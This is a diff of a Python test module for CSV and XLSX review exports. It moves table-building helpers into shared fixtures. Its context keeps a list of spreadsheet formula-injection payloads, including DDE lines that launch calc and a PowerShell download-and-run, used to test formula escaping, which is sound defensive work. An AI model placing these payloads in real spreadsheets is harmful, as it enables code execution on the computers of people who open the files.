@@ -11,14 +11,12 @@ from pathlib import Path
 from typing import Any
 
 import openpyxl
-import pandas as pd
 import pytest
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from querytruth.backends.files.text_formats import unescape_formula
 from querytruth.errors import UserError
-from querytruth.records import empty_frame, from_arrow, to_arrow
 from querytruth.sets.benchmark_set import Tables
 from querytruth.sets.decision_records import QueryDecision
 from querytruth.sets.review_csv import name_export, read_review_csv, write_review_csv, write_review_xlsx
@@ -31,6 +29,7 @@ from querytruth.sets.review_tables import (
     read_filled_table,
 )
 from tests.images import make_jpeg
+from tests.review.recall_sets import images_table, qrels_table, queries_table, typed_tables
 
 PAYLOADS = [
     "=1+1", "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget x)'!A0", '=HYPERLINK("http://x.example","click")',
@@ -67,24 +66,14 @@ TEXTS = [
 
 def tables_of(texts: list[str], evidence: list[str] | None = None) -> Tables:
     """A query per text, two judged images each."""
-    ids = [f"q_{n:03}" for n in range(len(texts))]
-    queries = {
-        "query_id": ids,
-        "text": texts,
-        "language": "zh",
-        "style": "word",
-        "level": 1,
-        "labels": [["a", "b"]] * len(ids),
-    }
-    images = empty_frame("images").reindex(range(2)).assign(image_id=["img_a", "img_b"], width=9, height=9)
-    images["file_name"] = ["=a.jpg", "b.jpg"]
-    pairs = [(query, image) for query in ids for image in ("img_a", "img_b")]
-    qrels = pd.DataFrame(pairs, columns=["query_id", "image_id"])
-    qrels["relevance"] = [2, 0] * len(ids)
-    qrels["judged_by"] = "rule"
-    qrels["evidence"] = [e for e in evidence or ["why"] * len(ids) for _ in "ab"]
-    frames = {"queries": pd.DataFrame(queries), "images": images, "qrels": qrels}
-    return Tables(**{name: from_arrow(to_arrow(name, frame)) for name, frame in frames.items()})
+    queries = [
+        {"query_id": f"q_{n:03}", "text": text, "style": "word", "labels": ["a", "b"]} for n, text in enumerate(texts)
+    ]
+    pairs = [(query["query_id"], image, grade) for query in queries for image, grade in (("img_a", 2), ("img_b", 0))]
+    reasons = [reason for reason in evidence or ["why"] * len(texts) for _ in "ab"]
+    images = images_table(["a", "b"]).assign(file_name=["=a.jpg", "b.jpg"])
+    qrels = qrels_table(pairs, "rule").assign(evidence=reasons)
+    return typed_tables(queries=queries_table(queries), images=images, qrels=qrels)
 
 
 def exports_of(tables: Tables) -> tuple[ReviewExport, ReviewExport]:
